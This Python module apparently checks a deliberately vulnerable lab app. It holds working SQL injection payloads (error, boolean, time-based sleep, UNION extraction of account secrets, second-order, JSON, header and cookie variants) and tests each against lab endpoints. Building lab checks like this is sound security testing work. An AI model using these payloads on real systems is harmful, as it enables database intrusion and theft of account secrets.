"""Exploits of SQL injection."""

from collections.abc import Awaitable

from lab.client import Lab, Reply, shortest

_COOKIE_TRUE, _COOKIE_FALSE = "x' OR '1'='1", "x' OR '1'='2"


async def _error(lab: Lab) -> bool:
    return "sqlite3.OperationalError" in (await lab.get("/catalog/item", id="1'")).text


async def _boolean(lab: Lab) -> bool:
    true = await lab.get("/catalog/stock", item="x' OR '1'='1")
    false = await lab.get("/catalog/stock", item="x' OR '1'='2")
    return "In stock" in true.text and "In stock" not in false.text


async def _time(lab: Lab) -> bool:
    def told(seconds: str) -> Awaitable[Reply]:
        return lab.post("/newsletter/subscribe", email=f"x' OR sleep({seconds}) OR '1'='2")

    return await shortest(lambda: told("1.5")) - await shortest(lambda: told("0")) > 0.9


async def _union(lab: Lab) -> bool:
    found = await lab.get("/catalog/search", q="%' UNION SELECT name, secret FROM accounts -- ")
    return "union-secret-5521" in found.text


async def _second_order(lab: Lab) -> bool:
    saved = await lab.post(
        "/community/nickname", nickname="x' UNION SELECT 'read:' || secret FROM accounts ORDER BY 1 DESC -- "
    )
    number = saved.text.partition("card?id=")[2].partition('"')[0]
    return "read:union-secret-5521" in (await lab.get("/community/card", id=number)).text


async def _json(lab: Lab) -> bool:
    content = {"name": "x' UNION SELECT name, secret FROM accounts -- "}
    return "union-secret-5521" in (await lab.send("POST", "/api/products/find", json=content)).text


async def _header(lab: Lab) -> bool:
    reply = await lab.send("GET", "/visits", headers={"User-Agent": "it's"})
    return "sqlite3.OperationalError" in reply.text


async def _cookie(lab: Lab) -> bool:
    true = await lab.send("GET", "/catalog/recent", headers={"Cookie": f"last_item={_COOKIE_TRUE}"})
    false = await lab.send("GET", "/catalog/recent", headers={"Cookie": f"last_item={_COOKIE_FALSE}"})
    return "Table" in true.text and "Nothing yet" in false.text


PROOFS = {
    "sqli-error": _error,
    "sqli-boolean": _boolean,
    "sqli-time": _time,
    "sqli-union": _union,
    "sqli-second-order": _second_order,
    "sqli-json": _json,
    "sqli-header": _header,
    "sqli-cookie": _cookie,
}
